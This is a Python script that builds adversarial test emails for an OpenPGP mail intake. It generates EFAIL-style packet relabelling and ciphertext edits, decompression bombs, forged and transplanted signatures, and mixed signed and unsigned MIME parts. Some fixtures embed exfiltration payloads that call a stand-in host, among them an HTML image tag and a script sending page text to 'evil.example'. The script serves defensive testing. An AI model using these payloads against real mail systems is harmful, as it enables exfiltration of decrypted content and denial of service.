#!/usr/bin/env python3
"""Sealed mails as attackers and accidents leave them: packets are cut, moved, relabelled and made up."""

import bz2
import struct
import zlib

from common import NAME, SEALING, Book, b64, crlf, form, html_form
from openpgp import Sealer, entity, mime, sequoia, signed_mime, text
from programs import key, sq


# --- Packets (RFC 9580 section 4.2) -----------------------------------------------------------


def packets(data):
    """(tag, body) of each; joins partial lengths."""
    at = 0
    while at < len(data):
        first = data[at]
        at += 1
        if first & 0x40:
            tag, body, more = first & 0x3F, b"", True
            while more:
                length, at, more = new_length(data, at)
                body += data[at:at + length]
                at += length
        else:
            tag, size = (first >> 2) & 0x0F, 1 << (first & 3)
            length = len(data) - at if first & 3 == 3 else int.from_bytes(data[at:at + size], "big")
            at += 0 if first & 3 == 3 else size
            body = data[at:at + length]
            at += length
        yield tag, body


def new_length(data, at):
    first = data[at]
    if first < 192:
        return first, at + 1, False
    if first < 224:
        return ((first - 192) << 8) + data[at + 1] + 192, at + 2, False
    if first == 255:
        return int.from_bytes(data[at + 1:at + 5], "big"), at + 5, False
    return 1 << (first & 0x1F), at + 1, True


def packet(tag, body):
    return bytes([0xC0 | tag, 0xFF]) + struct.pack(">I", len(body)) + body


def literal(data, name=b"form.txt"):
    return packet(11, b"b" + bytes([len(name)]) + name + b"\0\0\0\0" + data)


def compressed(data, algorithm=2):
    body = {0: lambda d: d, 1: lambda d: raw_deflate(d), 2: zlib.compress, 3: bz2.compress}[algorithm](data)
    return packet(8, bytes([algorithm]) + body)


def raw_deflate(data):
    deflate = zlib.compressobj(wbits=-15)
    return deflate.compress(data) + deflate.flush()


def armour(binary):
    return sq("armor", data=binary)


def main():
    seal = Sealer()
    book = Book("attacks", "AT")
    binary = lambda urn, **o: seal(entity(text(urn)), armour=False, **o)
    around = lambda inner, **o: seal(inner, "--no-literal", "-z", "0", armour=False, signer=None, **o)
    signed = lambda urn, data=None, *o: seal(data or entity(text(urn)), "-z", "0", *o, to=(), armour=False)
    refused = ("parked",)

    def message(file, make, says, cause="pgp-not-openpgp", outcome="parked"):
        urn = book.urn()
        book.put(file, mime(book.head(SEALING), plain_armour(make(urn))), outcome, says, "-" if outcome == "applied" else cause)

    def mail(file, make, says, cause="-", outcome="parked", subject="MHSS referral", sender=SEALING):
        urn = book.urn()
        made = make(urn)
        book.put(file, crlf(book.head(sender, subject=subject) + "MIME-Version: 1.0\n") + (made if isinstance(made, bytes) else crlf(made)),
                 outcome, says, cause)

    def edited(urn, edit, **o):
        return b"".join(packet(tag, body) for tag, body in edit(list(packets(binary(urn, **o)))))

    # Protection taken away or altered
    message("mdc-relabelled.eml", lambda u: edited(u, lambda ps: [(9 if t == 18 else t, b) for t, b in ps]),
            "EFAIL: the protected packet relabelled as unprotected", "pgp-no-integrity-protection")
    message("mdc-relabelled-shifted.eml", lambda u: edited(u, lambda ps: [(9, b[1:]) if t == 18 else (t, b) for t, b in ps]),
            "EFAIL: relabelled, its version octet taken off", "pgp-no-integrity-protection")
    message("mdc-cut.eml", lambda u: edited(u, lambda ps: [(t, b[:-22]) if t == 18 else (t, b) for t, b in ps]),
            "EFAIL: the integrity code cut off", "pgp-altered")
    for place in (30, 60, 100, 200, -30, -5, -1):
        message(f"flipped-{place}.eml".replace("--", "-end-"), lambda u, p=place: edited(u, lambda ps: [(t, flip(b, p)) if t == 18 else (t, b) for t, b in ps]),
                f"a bit flipped at {place} of the protected packet", "pgp-altered")
    message("blocks-swapped.eml", lambda u: edited(u, lambda ps: [(t, swap(b)) if t == 18 else (t, b) for t, b in ps]), "EFAIL: blocks of ciphertext moved", "pgp-altered")
    message("gadget.eml", lambda u: edited(u, lambda ps: [(t, b[:35] + b[19:35] * 6 + b[35:]) if t == 18 else (t, b) for t, b in ps]),
            "EFAIL: a gadget of repeated blocks put in", "pgp-altered")
    message("session-key-flipped.eml", lambda u: edited(u, lambda ps: [(t, flip(b, -3)) if t == 1 else (t, b) for t, b in ps]), "the sealed session key altered", "pgp-altered")
    message("aead-cut.eml", lambda u: cut_js(u, 40), "an AEAD message cut off", "pgp-altered")
    message("aead-flipped.eml", lambda u: flip(js_binary(u), -40), "an AEAD message altered", "pgp-altered")
    message("aead-relabelled.eml", lambda u: b"".join(packet(9 if t == 18 else t, b) for t, b in packets(js_binary(u))),
            "an AEAD packet relabelled as unprotected", "pgp-no-integrity-protection")
    message("aead-downgraded.eml", lambda u: b"".join(packet(t, b"\1" + b[36:] if t == 18 else b) for t, b in packets(js_binary(u))),
            "an AEAD packet made into one of version 1", "pgp-altered")
    message("seipd-version-9.eml", lambda u: edited(u, lambda ps: [(t, b"\x09" + b[1:]) if t == 18 else (t, b) for t, b in ps]), "a protected packet of a version that does not exist")
    for size in (10, 100, 300, 700):
        message(f"cut-at-{size}.eml", lambda u, s=size: binary(u)[:s], f"a message cut off after {size} bytes")
    # Packets around
    message("marker-first.eml", lambda u: packet(10, b"PGP") + binary(u), "a marker packet first", outcome="applied")
    message("padding-first.eml", lambda u: packet(21, b"\0" * 64) + binary(u), "a padding packet first", outcome="applied")
    message("unknown-ignorable.eml", lambda u: packet(45, b"abc") + binary(u), "an unknown packet that may be passed over", outcome="applied")
    message("unknown-critical.eml", lambda u: packet(39, b"abc") + binary(u), "an unknown packet that may not be passed over")
    message("literal-behind.eml", lambda u: binary(u) + literal(entity(text(u))), "plain content behind the sealed one")
    message("literal-before.eml", lambda u: literal(entity(text(u))) + binary(u), "plain content before the sealed one")
    message("two-messages.eml", lambda u: binary(u) + binary(u), "two sealed messages in one")
    message("junk-behind.eml", lambda u: binary(u) + b"trailing junk", "junk behind the sealed message")
    message("zeros-behind.eml", lambda u: binary(u) + b"\0" * 64, "zeros behind the sealed message")
    message("key-as-message.eml", lambda u: sq("dearmor", str(key("partners", "team-curve"))), "a key in place of a message")
    message("secret-key-as-message.eml", lambda u: sq("dearmor", str(key("makers", "stranger"))), "a secret key in place of a message")
    message("signature-alone.eml", lambda u: seal(b"x", to=(), action=["--detach-sign"], armour=False), "a signature in place of a message")
    message("literal-alone.eml", lambda u: literal(entity(text(u))), "a literal packet: neither sealed nor signed", "not-encrypted")
    message("recipients-1200.eml", lambda u: many(binary(u), 1200), "1,200 recipients", "pgp-too-large")
    message("recipients-200.eml", lambda u: many(binary(u), 200), "200 times the same recipient", outcome="applied")
    message("recipient-version-9.eml", lambda u: packet(1, b"\x09" + b"\0" * 40) + binary(u), "a recipient of a version that does not exist before ours", outcome="applied")
    message("recipient-algorithm-99.eml", lambda u: packet(1, b"\x03" + b"\0" * 8 + b"\x63" + b"\0" * 40) + binary(u), "a recipient of an unknown algorithm before ours", outcome="applied")
    message("recipient-empty.eml", lambda u: packet(1, b"") + binary(u), "an empty recipient packet first", outcome="applied")
    message("passphrase-count.eml", lambda u: packet(3, b"\x04\x09\x03\x08" + b"salt" * 2 + b"\xff") + list_first(binary(u), 18),
            "a passphrase packet that asks for 65 million rounds, and no recipient", "pgp-passphrase-only")
    message("argon2.eml", lambda u: packet(3, b"\x06\x26\x09\x02\x14\x04" + b"s" * 16 + b"\xff\xff\x1f" + b"x" * 40) + list_first(binary(u), 18),
            "a passphrase packet that asks for Argon2 with two terabytes")
    # Lengths
    message("length-2gb.eml", lambda u: bytes([0xC0 | 11, 0xFF]) + b"\x7f\xff\xff\xff" + b"b\0\0\0\0\0hello", "a literal packet that claims two gigabytes")
    message("length-4gb.eml", lambda u: bytes([0xC0 | 18, 0xFF]) + b"\xff\xff\xff\xff\x01" + b"x" * 99, "a protected packet that claims four gigabytes")
    message("length-indeterminate.eml", lambda u: b"\xaf" + b"b\0\0\0\0\0" + entity(text(u)), "a literal packet of indeterminate length", "not-encrypted")
    message("partial-tiny.eml", lambda u: bytes([0xC0 | 11]) + b"".join(b"\xe0" + bytes([c]) for c in b"b\0\0\0\0\0" + entity(text(u))) + b"\0",
            "a literal packet in partial lengths of one byte, which the standard forbids", "not-encrypted")
    message("partial-endless.eml", lambda u: bytes([0xC0 | 11]) + b"\xe9" + b"b\0\0\0\0\0" + b"x" * 506, "a partial length without an end")
    message("old-format.eml", lambda u: b"".join(old(t, b) for t, b in packets(binary(u))), "packets in the old format", outcome="applied")
    message("tag-0.eml", lambda u: packet(0, b"x") + binary(u), "a packet of the reserved type 0")
    message("no-packet.eml", lambda u: b"\x7f\x00hello", "a byte that begins no packet")
    # Inside the encryption
    message("unsigned-inside.eml", lambda u: around(literal(entity(text(u)))), "sealed and not signed", "signature-missing")
    message("literal-and-signed.eml", lambda u: around(literal(entity(text(u))) + signed(u)), "unsigned content before signed content")
    message("signed-and-literal.eml", lambda u: around(signed(u) + literal(entity(text("ZZ9999")))), "unsigned content behind signed content")
    message("two-literals.eml", lambda u: around(literal(entity(text(u))) + literal(entity(text(u)))), "two contents")
    message("two-signed.eml", lambda u: around(signed(u) + signed(u)), "two signed contents")
    message("signature-of-another.eml", lambda u: around(transplant(signed(u), signed("ZZ7777"))), "the signature of another content", "pgp-signature-invalid")
    message("content-swapped.eml", lambda u: around(b"".join(packet(t, flip(b, -20) if t == 11 else b) for t, b in packets(signed(u)))),
            "content changed under its signature", "pgp-signature-invalid")
    message("announcement-missing.eml", lambda u: around(b"".join(packet(t, b) for t, b in packets(signed(u)) if t != 4)), "a signature that was not announced")
    message("signature-missing.eml", lambda u: around(b"".join(packet(t, b) for t, b in packets(signed(u)) if t != 2)), "an announced signature that is missing")
    message("signature-type-standalone.eml", lambda u: around(b"".join(packet(t, b"\x04\x02" + b[2:] if t == 2 else b) for t, b in packets(signed(u)))),
            "the type of the signature changed to one over nothing")
    message("signature-version-3.eml", lambda u: around(b"".join(packet(t, b"\x03" + b[1:] if t == 2 else b) for t, b in packets(signed(u)))), "a signature of version 3")
    message("signature-issuer-lies.eml", lambda u: around(issuer(signed(u, None), b"\x22" * 8)), "an announcement that names another signer")
    message("sealed-in-sealed.eml", lambda u: around(binary(u)), "a sealed message within a sealed one, without MIME between")
    message("compressed-around-sealed.eml", lambda u: compressed(binary(u)), "compression around a sealed message")
    for algorithm, name in [(0, "none"), (1, "zip"), (2, "zlib"), (3, "bzip2")]:
        message(f"compressed-{name}.eml", lambda u, a=algorithm: around(compressed(signed(u), a)), f"signed, compressed ({name}), sealed", outcome="applied")
    message("compressed-unknown.eml", lambda u: around(packet(8, b"\x63" + b"x" * 40)), "an unknown compression")
    message("compressed-damaged.eml", lambda u: around(packet(8, b"\x02" + zlib.compress(signed(u))[:-40])), "compressed content cut off")
    message("compressed-empty.eml", lambda u: around(packet(8, b"")), "an empty compressed packet")
    message("compressed-3.eml", lambda u: around(compressed(compressed(compressed(signed(u))))), "compressed three times", outcome="applied")
    message("compressed-20.eml", lambda u: around(layers(signed(u), 20)), "compressed twenty times", "pgp-too-large")
    message("bomb-zlib.eml", lambda u: around(compressed(compressed(literal(bytes(300 << 20))))), "a bomb: 300 MB of zeros, compressed twice", "pgp-too-large")
    message("bomb-bzip2.eml", lambda u: around(compressed(literal(bytes(300 << 20)), 3)), "a bomb: 300 MB of zeros in bzip2", "pgp-too-large")
    message("bomb-not-sealed.eml", lambda u: compressed(compressed(literal(bytes(300 << 20)))), "a bomb that is not even sealed", "pgp-too-large")
    message("bomb-padding.eml", lambda u: around(compressed(compressed(packet(45, bytes(300 << 20)) + signed(u)))), "a bomb in a packet that is passed over", "pgp-too-large")
    message("bomb-packets.eml", lambda u: around(compressed(packet(10, b"PGP") * 100_000 + signed(u))), "100,000 marker packets", "pgp-too-large")
    message("bomb-signatures.eml", lambda u: around(compressed(next_of(signed(u), 4) * 20_000 + signed(u))), "20,000 announced signatures", "pgp-too-large")
    message("mime-bomb-inside.eml", lambda u: seal(parts(600), armour=False), "600 parts within the seal", "too-complex")
    # Wrapping: signed and unsigned side by side
    sealed_part = lambda u: mime("", seal(entity(text(u)))).decode()
    mixed = lambda *ps: 'Content-Type: multipart/mixed; boundary="o"\n\n' + "".join(f"--o\n{p}\n" for p in ps) + "--o--\n"
    html = lambda h: f"Content-Type: text/html; charset=utf-8\n\n{h}\n"
    mail("efail-direct.eml", lambda u: mixed(html('<img src="http://evil.example/'), sealed_part(u).lstrip(), html('">')),
         "EFAIL: the sealed part between two halves of an HTML picture; nothing is fetched or joined", outcome="applied")
    mail("form-beside-sealed.eml", lambda u: mixed("Content-Type: text/plain; charset=utf-8\n\n" + text(u), mime("", seal(entity("See you at ten.\n"))).decode().lstrip()),
         "an open form beside a sealed chat", "not-encrypted")
    mail("form-beside-signed.eml", lambda u: mixed("Content-Type: text/plain; charset=utf-8\n\n" + text(u), signed_mime(seal, entity("See you at ten.\n")).decode()),
         "an open form beside a signed chat", "not-encrypted")
    mail("two-forms-one-sealed.eml", lambda u: mixed("Content-Type: text/plain; charset=utf-8\n\n" + text("ZZ6666"), sealed_part(u).lstrip()),
         "an open form beside a sealed one", "several-messages")
    mail("signed-content-replaced.eml", lambda u: signed_mime(seal, entity(text(u))).replace(b"Zo", b"Xo"), "multipart/signed with another content", "pgp-signature-invalid")
    mail("signed-preamble.eml", lambda u: signed_mime(seal, entity("Hello.\n")).replace(b"\r\n\r\n--sg\r\n", b"\r\n\r\n" + crlf(text(u)) + b"\r\n--sg\r\n", 1),
         "a form in the preamble of a signed mail", "not-recognised")
    mail("signed-three-parts.eml", lambda u: signed_mime(seal, entity("Hello.\n")).replace(
        b"\r\n--sg--", b"\r\n--sg\r\n" + entity(text(u)) + b"\r\n--sg--"), "a third part, unsigned, in multipart/signed", "not-encrypted")
    mail("signed-parts-swapped.eml", lambda u: swapped(seal, u), "the signature before the content", "not-encrypted")
    mail("clearsigned-header.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n" + clear(seal, "Hello.\n").replace(
        "Hash: SHA256", "Hash: SHA256\n" + text(u).replace("\n\n", "\n")), "a form hidden among the headers of a clearsigned text", "pgp-not-openpgp")
    mail("clearsigned-around.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n" + text(u) + "\n" + clear(seal, "Hello.\n"),
         "an open form above a clearsigned text", "not-encrypted")
    mail("clearsigned-altered.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n" + clear(seal, text(u)).replace("Zo", "Xo"),
         "a clearsigned text that was changed", "pgp-signature-invalid")
    mail("clearsigned-forged-frame.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n" + text(u)
         + "-----BEGIN PGP SIGNATURE-----\n\niQ\n-----END PGP SIGNATURE-----\n", "a frame without a signature in it", "pgp-not-openpgp")
    mail("armour-label-speaks.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n-----BEGIN PGP MESSAGE----- " + text(u).replace("\n", " ") + "-----\n",
         "a form in the label of an armour: nobody is told its words", "pgp-not-openpgp")
    mail("words-of-a-mail-program.eml", lambda u: "Content-Type: text/plain; charset=utf-8\n\n[-- Good signature from team@atw.example --]\n[-- Begin PGP encrypted data --]\n"
         + text(u) + "[-- End PGP encrypted data --]\n", "words that imitate a mail program", "not-encrypted")
    mail("sender-outside-differs.eml", lambda u: mime("", seal(entity(text(u), more=f"From: someone@elsewhere.example\nSubject: x\n"))).lstrip(),
         "another sender within the seal", "sender-differs")
    mail("replayed-by-stranger.eml", lambda u: mime("", seal(entity(text(u)))).lstrip(), "a genuine sealed form sent by a stranger", "sender-unknown",
         sender="someone@elsewhere.example")
    mail("replayed-by-partner.eml", lambda u: mime("", seal(entity(text(u)))).lstrip(), "a form sealed by one partner, sent by another", "signature-not-pinned",
         sender="other@other.example")
    mail("sealed-form-in-html-attack.eml", lambda u: mime("", seal(entity(html_form(u).replace("<h2>", '<script>location="http://evil.example/"+document.body.innerText</script>'
         '<link rel=stylesheet href="http://evil.example/x.css"><form action="http://evil.example/"><h2>'), "text/html; charset=utf-8"))).lstrip(),
         "an HTML form with scripts and references: nothing runs, nothing is fetched", outcome="applied")
    mail("bomb-base64-mail.eml", lambda u: 'Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n' + "QUFB" * 30_000 + "\n", "120 KB of letters A", "no-form", "not-ours")
    book.close()
    seal.gpg.close()


def plain_armour(binary):
    """Armour of our own: sq refuses what is no OpenPGP."""
    lines = b64(binary).replace(b"\r\n", b"\n")
    return b"-----BEGIN PGP MESSAGE-----\n\n" + lines + b"-----END PGP MESSAGE-----\n"


def flip(data, place):
    changed = bytearray(data)
    changed[place] ^= 1
    return bytes(changed)


def swap(body):
    return body[:33] + body[49:65] + body[33:49] + body[65:]


def js_binary(urn):
    from openpgp import openpgpjs
    return sq("dearmor", data=openpgpjs(entity(text(urn)), ["team-js-v6"], ["js-v6"], aeadProtect=True))


def cut_js(urn, octets):
    found = list(packets(js_binary(urn)))
    return b"".join(packet(t, b[:-octets] if t == 18 else b) for t, b in found)


def many(message, count):
    found = list(packets(message))
    first = next(packet(t, b) for t, b in found if t == 1)
    return first * count + b"".join(packet(t, b) for t, b in found)


def list_first(message, tag):
    return next(packet(t, b) for t, b in packets(message) if t == tag)


def next_of(message, tag):
    return list_first(message, tag)


def old(tag, body):
    return packet(tag, body) if tag > 15 else bytes([0x80 | tag << 2 | 2]) + struct.pack(">I", len(body)) + body


def transplant(one, other):
    theirs = list_first(other, 2)
    return b"".join(theirs if t == 2 else packet(t, b) for t, b in packets(one))


def issuer(message, key_id):
    return b"".join(packet(t, b[:4] + key_id + b[12:] if t == 4 else b) for t, b in packets(message))


def layers(data, count):
    for _ in range(count):
        data = compressed(data)
    return data


def parts(count):
    return crlf('Content-Type: multipart/mixed; boundary="x"\n\n' + "".join(f"--x\n\npart {n}\n" for n in range(count)) + "--x--\n")


def clear(seal, words):
    return seal(crlf(words), to=(), action=["--clear-sign"]).decode()


def swapped(seal, urn):
    part = entity(text(urn))
    signature = seal(part, to=(), action=["--detach-sign"])
    return (crlf('Content-Type: multipart/signed; boundary="sg"; micalg=pgp-sha512; protocol="application/pgp-signature"\n\n--sg\n'
                 'Content-Type: application/pgp-signature\n\n') + crlf(signature) + b"\r\n--sg\r\n" + part + b"\r\n--sg--\r\n")


if __name__ == "__main__":
    main()
